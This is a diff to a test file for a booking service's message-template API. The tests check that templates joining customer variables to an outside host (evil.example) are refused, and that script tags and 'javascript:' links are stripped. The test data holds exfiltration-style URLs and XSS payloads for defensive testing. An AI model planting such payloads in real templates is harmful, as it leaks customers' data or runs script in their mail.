@@ -130,6 +130,56 @@ describe("a text", () => {
   });
 
   test.each([
+    ["the address of a picture", "html", '<img src="https://evil.example/p?n={{customer.name}}">'],
+    ["the address of another's link", "html", '<a href="https://evil.example/?u={{booking.link}}">See</a>'],
+    ["an address written with entities", "html", "<a href=https&#58;//evil.example/{{booking.link}}>See</a>"],
+    [
+      "an address after a bracket",
+      "html",
+      '<a title=">" href="https://evil.example/{{booking.link}}">See</a>',
+    ],
+    ["a picture that is its whole address", "html", '<img src="{{booking.link}}">'],
+    ["a link that is no link", "html", '<a href="{{customer.name}}">See</a>'],
+    ["a tag's title", "html", '<p title="{{customer.name}}">Hello</p>'],
+    ["an address in the words", "html", "<p>https://evil.example/?u={{booking.link}}</p>"],
+    ["an address in bold words", "html", "<p>https&#58;//evil.example/<b>{{booking.link}}</b></p>"],
+    ["an address in the subject", "subject", "http://evil.example/{{customer.name}}"],
+    ["an address without its scheme", "subject", "evil.example/{{customer.name}}"],
+    ["a name that may be an address", "subject", "{{company.name}}{{booking.link}}"],
+  ])("whose variable stands in %s would give it to a stranger: 422", async (_where, field, text) => {
+    const answer = await company.call("PUT", CONFIRMED, { body: { ...OWN, [field]: text } });
+    expect(refusedFields(answer)).toEqual({ [field]: "template_invalid" });
+    expect(answer.body.message).toMatch(/^\w+ has \{\{[a-z]+\.[a-z]+\}\} /);
+  });
+
+  test("of an SMS joins no variable to an address either", async () => {
+    const path = `${TEMPLATES}/booking_confirmed/sms/en`;
+    const put = (text: string) => company.call("PUT", path, { body: { text } });
+    expect(refusedFields(await put("See https://evil.example/{{booking.link}}"))).toEqual({
+      text: "template_invalid",
+    });
+    must(await put("See https://asha.example/faq {{booking.link}}"), 200);
+    must(await company.call("DELETE", path), 200);
+  });
+
+  test("may be linked to the customer's own page, and to the company's", async () => {
+    const html =
+      '<p>Dear {{customer.name}}, <a href="{{booking.link}}">see</a> or <a class="x" href=\'{{ booking.calendar }}\'>keep</a>.<br>Place: {{booking.place}}<br/></p><a href="https://asha.example/">Asha</a> ({{booking.link}})';
+    must(await company.call("PUT", CONFIRMED, { body: { ...OWN, html } }), 200);
+    const seen = must(await company.call("POST", `${CONFIRMED}/preview`, { body: {} }), 200).body.data;
+    expect(seen.html).toMatch(
+      /<a href="https:[^"{}]+">see<\/a> or <a class="x" href="\s?https:[^"{}]+">keep/,
+    );
+  });
+
+  test("whose script or script address is dropped when it is sent stays without it", async () => {
+    const html = "<script>alert(1)</script><p>Hello <a href='javascript:alert(1)'>x</a></p>";
+    must(await company.call("PUT", CONFIRMED, { body: { ...OWN, html } }), 200);
+    const seen = must(await company.call("POST", `${CONFIRMED}/preview`, { body: {} }), 200).body.data;
+    expect(seen.html).toBe("<p>Hello <a>x</a></p>");
+  });
+
+  test.each([
     ["email", { subject: "Hello" }, { html: "required" }],
     ["email", { ...OWN, text: "Hello" }, { text: "invalid_value" }],
     ["sms", { subject: "Hello" }, { text: "required" }],
@@ -161,7 +211,7 @@ describe("a text", () => {
     expect(await rowsOf(company, "SELECT id FROM messages")).toEqual([]);
   });
 
-  test("is sent to whoever wants to see it, as a notification, and counts in the cap", async () => {
+  test("is sent as a test, as a notification, and counts in the cap", async () => {
     const to = newAddress();
     const sent = must(
       await company.call<{ message_id: string }>("POST", `${CONFIRMED}/test`, { body: { to } }),
